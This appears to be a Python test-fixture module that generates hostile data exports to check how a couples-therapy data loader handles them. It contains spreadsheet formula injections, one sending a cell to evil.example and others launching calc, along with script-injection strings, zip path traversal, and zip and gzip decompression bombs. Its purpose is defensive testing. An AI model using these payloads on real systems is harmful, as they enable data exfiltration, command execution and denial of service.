"""Hostile-input corpus: builders that write each hostile export into a folder, and the
table of expected outcomes that ``tests/test_hostile.py`` checks.

Nothing large is committed: every file (the 10 MB field and the compression bomb included)
is generated at test time. Run ``python tests/hostile/build.py OUT`` to write the whole
corpus for manual inspection, or ``python tests/hostile/build.py --table`` to print the
outcome table (kept in ``tests/hostile/README.md``).

Outcome kinds:

* ``load`` — loads; the quarantine holds exactly the listed reasons (row counts) and
  ``rows_in == rows_loaded + rows_quarantined``;
* ``error`` — :class:`patterns.ExportError` whose message matches ``match``;
* ``neutralised`` — loads, and the kit's outputs neutralise the payload (CSV, HTML, paths);
* ``consent`` — loads, and :func:`patterns.consent.check_consent` gives the listed rules.
"""

from __future__ import annotations

import codecs
import gzip
import json
import struct
import sys
import zipfile
from collections.abc import Callable
from dataclasses import dataclass, field
from pathlib import Path
from typing import Any

__all__ = ["CASES", "SCRIPT", "SCRIPT_MARKER", "Case", "outcome_table", "script_injection_export"]

SCRIPT = "</script><script>alert(1)</script>"
#: What the injected script would do if it ran: the browser test checks it did not.
SCRIPT_MARKER = "</script><script>document.title='PWNED';window.__pwned=1</script>"
FORMULAS = [
    '=HYPERLINK("http://evil.example/?d="&A1,"click")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+9)",
    "\t=1+1",
]

HEADER = "couple_id,ts,actor,code,bid_id,topic,note"


def _manifest(
    couples: dict[str, list[str]] | None = None,
    *,
    zone: str = "Europe/Amsterdam",
    consent: dict[str, dict[str, Any]] | None = None,
    retention: str = "2031-01-01",
    with_consent: bool = True,
) -> dict:
    couples = couples or {"c001": ["c001-a", "c001-b"]}
    out = []
    for cid, partners in couples.items():
        c: dict[str, Any] = {"couple_id": cid, "timezone": zone, "partners": partners}
        if with_consent:
            recs = {}
            for p in partners:
                rec = {
                    "status": "active",
                    "decision": "permit",
                    "period": {"start": "2026-01-01", "end": None},  # valid on any later day
                    "withdrawn_at": None,
                    "purposes": ["treatment", "research"],
                    "categories": ["ratings", "events", "free_text", "intimacy"],
                }
                rec.update((consent or {}).get(p, {}))
                recs[p] = rec
            c["consent"] = {
                "partners": recs,
                "recipients": ["therapist"],
                "retention_until": retention,
            }
        out.append(c)
    return {"schema_version": "1", "timezone": zone, "couples": out}


def _events_rows(n: int = 6, *, couple: str = "c001", day: str = "2026-03-02") -> list[str]:
    """A small clean conversation: bids answered toward/away, one conflict."""
    rows = []
    for i in range(n):
        actor, other = (
            (f"{couple}-a", f"{couple}-b") if i % 2 == 0 else (f"{couple}-b", f"{couple}-a")
        )
        rows.append(f"{couple},{day}T{8 + i:02d}:00:00+01:00,{actor},bid,b{i},,")
        resp = "toward" if i % 3 else "away"
        rows.append(f"{couple},{day}T{8 + i:02d}:05:00+01:00,{other},{resp},b{i},,")
    rows.append(f"{couple},{day}T20:00:00+01:00,{couple}-a,conflict,,money,argued about rent")
    return rows


def _write(folder: Path, name: str, text: str | bytes, encoding: str = "utf-8") -> None:
    folder.mkdir(parents=True, exist_ok=True)
    data = text if isinstance(text, bytes) else text.encode(encoding)
    (folder / name).write_bytes(data)


def _standard(folder: Path, events_text: str | bytes, manifest: dict | None = None) -> Path:
    _write(folder, "events.csv", events_text)
    _write(folder, "manifest.json", json.dumps(manifest or _manifest(), indent=1))
    return folder


def _csv(rows: list[str], header: str = HEADER) -> str:
    return "\n".join([header, *rows]) + "\n"


# --- builders (each returns the export path) ----------------------------------------------


def bom(folder: Path) -> Path:
    return _standard(folder, codecs.BOM_UTF8 + _csv(_events_rows()).encode("utf-8"))


def utf16(folder: Path) -> Path:
    text = _csv(_events_rows()).replace(",", "\t")
    return _standard(folder, codecs.BOM_UTF16_LE + text.encode("utf-16-le"))


def cp1252(folder: Path) -> Path:
    rows = _events_rows()
    rows[-1] = rows[-1].replace("argued about rent", "Zoë’s café bill – 5€")
    return _standard(folder, _csv(rows).encode("cp1252"))


def invalid_bytes(folder: Path) -> Path:
    data = _csv(_events_rows()).encode("utf-8").replace(b"argued", b"argu\xff\xfe\xc3(ed")
    return _standard(folder, data)


def nul_bytes(folder: Path) -> Path:
    rows = _events_rows()
    rows[-1] = rows[-1].replace("argued about rent", "argued\x00about\x00rent")
    return _standard(folder, _csv(rows))


def zero_width_bidi(folder: Path) -> Path:
    rows = _events_rows()
    # a zero-width space inside a couple id, a right-to-left override inside an actor id:
    # look identical on screen, but are different ids → quarantined as unknown
    rows[0] = rows[0].replace("c001,", "c0\u200b01,", 1)
    rows[2] = rows[2].replace("c001-b,", "c001-\u202eb,", 1)
    rows[-1] = rows[-1].replace("argued about rent", "rent\u202e txt.exe \u200b")
    return _standard(folder, _csv(rows))


def ragged_rows(folder: Path) -> Path:
    rows = _events_rows()
    rows.insert(1, "c001,2026-03-02T08:01:00+01:00,c001-a,bid,bx,,,EXTRA,FIELDS")
    rows.insert(2, "c001,2026-03-02T08:02:00+01:00,c001-a")
    return _standard(folder, _csv(rows))


def duplicate_headers(folder: Path) -> Path:
    rows = [r + ",second" for r in _events_rows()]
    return _standard(folder, _csv(rows, HEADER + ",note"))


def na_and_007(folder: Path) -> Path:
    rows = [r.replace("c001", "007") for r in _events_rows()]
    rows[-1] = rows[-1].replace("money", "NA").replace("argued about rent", "None")
    return _standard(folder, _csv(rows), _manifest({"007": ["007-a", "007-b"]}))


def big_field(folder: Path, size: int = 10 * 1024 * 1024) -> Path:
    rows = _events_rows()
    rows[-1] = rows[-1].replace("argued about rent", "x" * size)
    return _standard(folder, _csv(rows))


def zip_traversal(folder: Path) -> Path:
    folder.mkdir(parents=True, exist_ok=True)
    path = folder / "export.zip"
    with zipfile.ZipFile(path, "w") as zf:
        zf.writestr("manifest.json", json.dumps(_manifest()))
        zf.writestr("../events.csv", _csv(_events_rows()))
    return path


def zip_absolute(folder: Path) -> Path:
    folder.mkdir(parents=True, exist_ok=True)
    path = folder / "export.zip"
    with zipfile.ZipFile(path, "w") as zf:
        zf.writestr("/tmp/events.csv", _csv(_events_rows()))
    return path


def zip_bomb(folder: Path, size: int = 256 << 20) -> Path:
    """A ~250 kB zip whose one member expands to 256 MiB (ratio ~1000:1), written by
    streaming, never held in memory. The loader must refuse it from the zip directory
    alone, before expanding anything."""
    folder.mkdir(parents=True, exist_ok=True)
    path = folder / "export.zip"
    chunk = b"0" * (1 << 20)
    with zipfile.ZipFile(path, "w", compression=zipfile.ZIP_DEFLATED, compresslevel=1) as zf:
        zf.writestr("manifest.json", json.dumps(_manifest()))
        with zf.open("events.csv", "w", force_zip64=True) as fh:
            fh.write((HEADER + "\n").encode())
            for _ in range(size // len(chunk)):
                fh.write(chunk)
    return path


def zip_lying_size(folder: Path) -> Path:
    """The zip bomb with its central directory patched to declare 1,000 bytes: the size
    checks pass, so the reader itself must stop at the declared size (zipfile does, then
    fails the CRC check) instead of expanding 256 MiB."""
    path = zip_bomb(folder)
    data = bytearray(path.read_bytes())
    i = 0
    while (i := data.find(b"PK\x01\x02", i)) >= 0:  # central directory entries
        name_len, extra_len = struct.unpack_from("<HH", data, i + 28)
        if bytes(data[i + 46 : i + 46 + name_len]) == b"events.csv":
            struct.pack_into("<I", data, i + 24, 1000)  # uncompressed size
            j = i + 46 + name_len
            while j < i + 46 + name_len + extra_len:  # zip64 extra field, if any
                hid, size = struct.unpack_from("<HH", data, j)
                if hid == 1:
                    struct.pack_into("<Q", data, j + 4, 1000)
                j += 4 + size
        i += 4
    path.write_bytes(bytes(data))
    return path


def gzip_bomb(folder: Path, size: int = 256 << 20) -> Path:
    """events.csv.gz: ~250 kB that expand to 256 MiB (gzip has no trustworthy size
    header, so the loader must stop while streaming)."""
    folder.mkdir(parents=True, exist_ok=True)
    chunk = b"0" * (1 << 20)
    with gzip.open(folder / "events.csv.gz", "wb", compresslevel=1) as fh:
        fh.write((HEADER + "\n").encode())
        for _ in range(size // len(chunk)):
            fh.write(chunk)
    _write(folder, "manifest.json", json.dumps(_manifest()))
    return folder


def dst_gap_overlap(folder: Path) -> Path:
    rows = [
        "c001,2026-03-29T02:30:00,c001-a,bid,g1,,",  # spring-forward gap (Amsterdam)
        "c001,2026-03-29T03:40:00,c001-b,toward,g1,,",
        "c001,2026-10-25T02:30:00,c001-a,bid,o1,,",  # fall-back overlap
        "c001,2026-10-25T02:45:00,c001-b,toward,o1,,",
    ]
    return _standard(folder, _csv(rows))


def excel_serial(folder: Path) -> Path:
    rows = [
        "c001,46083.5,c001-a,bid,x1,,",  # 2026-03-02 12:00 local
        "c001,46083.50347222222,c001-b,toward,x1,,",  # + 5 minutes
        "c001,46083.75,c001-a,bid,x2,,",
        "c001,99999999999999,c001-b,toward,x2,,",  # absurd number → bad_timestamp
    ]
    return _standard(folder, _csv(rows))


def formula_injection(folder: Path) -> Path:
    rows = _events_rows()
    for i, f in enumerate(FORMULAS):
        quoted = '"' + f.replace('"', '""') + '"'
        rows.append(f"c001,2026-03-03T{10 + i:02d}:00:00+01:00,c001-a,conflict,,{quoted},{quoted}")
    return _standard(folder, _csv(rows))


def script_injection(folder: Path, payload: str = SCRIPT) -> Path:
    rows = _events_rows()
    quoted = '"' + payload.replace('"', '""') + '"'
    for i in range(3):
        rows.append(f"c001,2026-03-0{3 + i}T20:00:00+01:00,c001-a,conflict,,{quoted},{quoted}")
    return _standard(folder, _csv(rows))


def path_traversal_ids(folder: Path) -> Path:
    cid = "../../etc"
    rows = [r.replace("c001", cid) for r in _events_rows()]
    return _standard(folder, _csv(rows), _manifest({cid: [f"{cid}-a", f"{cid}-b"]}))


def third_partner(folder: Path) -> Path:
    rows = _events_rows()
    rows.append("c001,2026-03-02T21:00:00+01:00,c001-c,bid,b99,,")
    rows.append("c001,2026-03-02T21:05:00+01:00,c001-c,toward,b98,,")
    manifest = _manifest()
    for c in manifest["couples"]:
        del c["partners"]  # no partner list: the loader must pick the two main ids
    return _standard(folder, _csv(rows), manifest)


def third_partner_listed(folder: Path) -> Path:
    rows = _events_rows()
    rows.append("c001,2026-03-02T21:00:00+01:00,c001-c,bid,b99,,")
    return _standard(folder, _csv(rows))


def consent_missing(folder: Path) -> Path:
    return _standard(folder, _csv(_events_rows()), _manifest(with_consent=False))


def consent_withdrawn(folder: Path) -> Path:
    m = _manifest(consent={"c001-b": {"withdrawn_at": "2026-04-01"}})
    return _standard(folder, _csv(_events_rows()), m)


def consent_expired(folder: Path) -> Path:
    m = _manifest(
        consent={"c001-a": {"period": {"start": "2025-01-01", "end": "2026-02-01"}}},
        retention="2026-03-01",
    )
    return _standard(folder, _csv(_events_rows()), m)


def consent_categories_not_shared(folder: Path) -> Path:
    m = _manifest(consent={"c001-a": {"categories": ["ratings", "events"]}})
    return _standard(folder, _csv(_events_rows()), m)


def script_injection_export(tmp_path: Path, *, free_text: bool = True) -> Path:
    """A complete export (one simulated couple, both tables, consent valid today) whose
    notes, answers and topics carry a script that would set ``document.title = 'PWNED'``
    and ``window.__pwned = 1`` if it ever ran. With ``free_text=False`` the second partner
    does not allow the ``free_text`` category.

    For the report's browser test: build a report from it and check the title is not
    ``PWNED``, ``window.__pwned`` is undefined and no request left the machine.
    """
    import pandas as pd

    from patterns.simulate import simulate_export

    out = Path(tmp_path) / "script_injection_export"
    sim = simulate_export(couples=1, days=28, seed=5, out=out)
    ev = pd.read_csv(out / "events.csv", dtype=str, keep_default_na=False)
    ck = pd.read_csv(out / "checkins.csv", dtype=str, keep_default_na=False)
    conflict = ev["code"] == "conflict"
    ev.loc[conflict, "topic"] = SCRIPT_MARKER
    ev.loc[conflict, "note"] = SCRIPT_MARKER + ' <img src=x onerror="window.__pwned=1">'
    if "answer" in ck.columns:
        ck.loc[ck["answer"] != "", "answer"] = SCRIPT_MARKER
    if "conflict_topic" in ck.columns:
        ck.loc[ck["conflict_topic"] != "", "conflict_topic"] = SCRIPT_MARKER
    ev.to_csv(out / "events.csv", index=False)
    ck.to_csv(out / "checkins.csv", index=False)
    # consent valid today (the simulator's consent periods end with its data), free text
    # allowed by both: a report run with --show-text then puts the payload on the page
    manifest = json.loads((out / "manifest.json").read_text(encoding="utf-8"))
    for couple in manifest["couples"]:
        for i, record in enumerate(couple["consent"]["partners"].values()):
            record["period"]["end"] = None
            assert "free_text" in record["categories"]
            if not free_text and i == 1:
                record["categories"] = [c for c in record["categories"] if c != "free_text"]
    (out / "manifest.json").write_text(json.dumps(manifest, indent=2), encoding="utf-8")
    assert len(sim.manifest["couples"]) == 1
    return out


@dataclass(frozen=True)
class Case:
    """One hostile input and its expected outcome."""

    name: str
    build: Callable[[Path], Path]
    kind: str  # load | error | neutralised | consent
    what: str
    quarantine: dict[str, int] = field(default_factory=dict)
    match: str = ""
    rules: tuple[tuple[str | None, str], ...] = ()
    slow: bool = False


CASES: tuple[Case, ...] = (
    Case("bom", bom, "load", "UTF-8 with BOM: header read without the BOM"),
    Case("utf16", utf16, "load", "UTF-16 LE with BOM, tab-separated (Excel Unicode text)"),
    Case("cp1252", cp1252, "load", "cp1252 bytes (ë, ’, –, €) decoded, not mangled"),
    Case("invalid_bytes", invalid_bytes, "load", "invalid UTF-8 bytes in a note: no crash"),
    Case("nul", nul_bytes, "load", "NUL bytes inside a note: loaded, row kept"),
    Case(
        "zero_width_bidi",
        zero_width_bidi,
        "load",
        "zero-width space / RLO inside ids: different ids, quarantined as unknown",
        quarantine={"unknown_couple": 1, "unknown_partner": 1},
    ),
    Case(
        "ragged",
        ragged_rows,
        "load",
        "rows with extra / missing fields",
        quarantine={"ragged_row": 2},
    ),
    Case(
        "duplicate_headers",
        duplicate_headers,
        "load",
        "two `note` columns: renamed apart, neither lost silently",
    ),
    Case("na_007", na_and_007, "load", "`007` stays `007`; `NA`/`None` stay strings"),
    Case(
        "big_field",
        big_field,
        "load",
        "a 10 MB note field (generated at test time): its row quarantined, the cell not kept",
        quarantine={"field_too_large": 1},
    ),
    Case("zip_traversal", zip_traversal, "error", "zip member `../events.csv`", match=r"\.\."),
    Case(
        "zip_absolute",
        zip_absolute,
        "error",
        "zip member with an absolute path",
        match="escapes the archive",
    ),
    Case(
        "zip_bomb",
        zip_bomb,
        "error",
        "zip member expanding to 256 MiB at ~1000:1",
        match="(?i)ratio|too large|bomb|exceeds",
        slow=True,
    ),
    Case(
        "zip_lying_size",
        zip_lying_size,
        "error",
        "the zip bomb with its directory claiming 1,000 bytes: stops at 1,000, bad CRC",
        match="Bad CRC",
        slow=True,
    ),
    Case(
        "gzip_bomb",
        gzip_bomb,
        "error",
        ".csv.gz expanding to 256 MiB",
        match="(?i)ratio|too large|bomb|exceeds|cap",
        slow=True,
    ),
    Case(
        "dst",
        dst_gap_overlap,
        "load",
        "naive local times in the DST gap (moved forward) and overlap (first occurrence)",
    ),
    Case(
        "excel_serial",
        excel_serial,
        "load",
        "Excel serial dates; an absurd serial",
        quarantine={"bad_timestamp": 1},
    ),
    Case(
        "formula_injection",
        formula_injection,
        "neutralised",
        "`=HYPERLINK`, `+cmd`, `-2+3`, `@SUM`, tab in topics and notes: CSV outputs get `'`",
    ),
    Case(
        "script_injection",
        script_injection,
        "neutralised",
        "`</script><script>` in notes and topics: escaped in HTML and chart JSON",
    ),
    Case(
        "path_traversal_ids",
        path_traversal_ids,
        "neutralised",
        "couple id `../../etc`: output names stay inside the output folder",
    ),
    Case(
        "third_partner",
        third_partner,
        "load",
        "a third actor, no partner list: its rows quarantined",
        quarantine={"third_partner": 2},
    ),
    Case(
        "third_partner_listed",
        third_partner_listed,
        "load",
        "a third actor not in the manifest's partner list",
        quarantine={"unknown_partner": 1},
    ),
    Case(
        "consent_missing",
        consent_missing,
        "consent",
        "no consent in the manifest",
        rules=((None, "consent_present"),),
    ),
    Case(
        "consent_withdrawn",
        consent_withdrawn,
        "consent",
        "one partner withdrew",
        rules=(("c001-b", "withdrawn"),),
    ),
    Case(
        "consent_expired",
        consent_expired,
        "consent",
        "one partner's period ended; retention passed (warning, refusal under strict)",
        rules=(("c001-a", "period"),),
    ),
    Case(
        "consent_categories",
        consent_categories_not_shared,
        "consent",
        "free_text allowed by one partner only: consent ok, free text never shown",
    ),
)


def outcome_table() -> str:
    """The markdown table of cases and expected outcomes (README.md in this folder)."""
    lines = ["| case | input | expected outcome |", "|---|---|---|"]
    for c in CASES:
        if c.kind == "load":
            q = ", ".join(f"`{r}` × {n}" for r, n in c.quarantine.items()) or "none"
            exp = f"loads; quarantine: {q}; rows in = loaded + quarantined"
        elif c.kind == "error":
            match = c.match.replace("|", "\\|")
            exp = f"`ExportError` matching `{match}`"
        elif c.kind == "consent":
            r = ", ".join(f"{p or 'couple'}: `{rule}`" for p, rule in c.rules) or "ok"
            exp = f"loads; consent: {r}"
        else:
            exp = "loads; payload neutralised in CSV / HTML / paths"
        what = c.what.replace("|", "\\|")
        lines.append(f"| `{c.name}` | {what} | {exp} |")
    return "\n".join(lines) + "\n"


def main(argv: list[str]) -> int:  # pragma: no cover - manual use
    if argv[:1] == ["--table"]:
        sys.stdout.write(outcome_table())
        return 0
    if len(argv) != 1:
        sys.stderr.write("usage: build.py OUT | --table\n")
        return 2
    root = Path(argv[0])
    for c in CASES:
        if not c.slow:
            c.build(root / c.name)
    return 0


if __name__ == "__main__":  # pragma: no cover
    raise SystemExit(main(sys.argv[1:]))
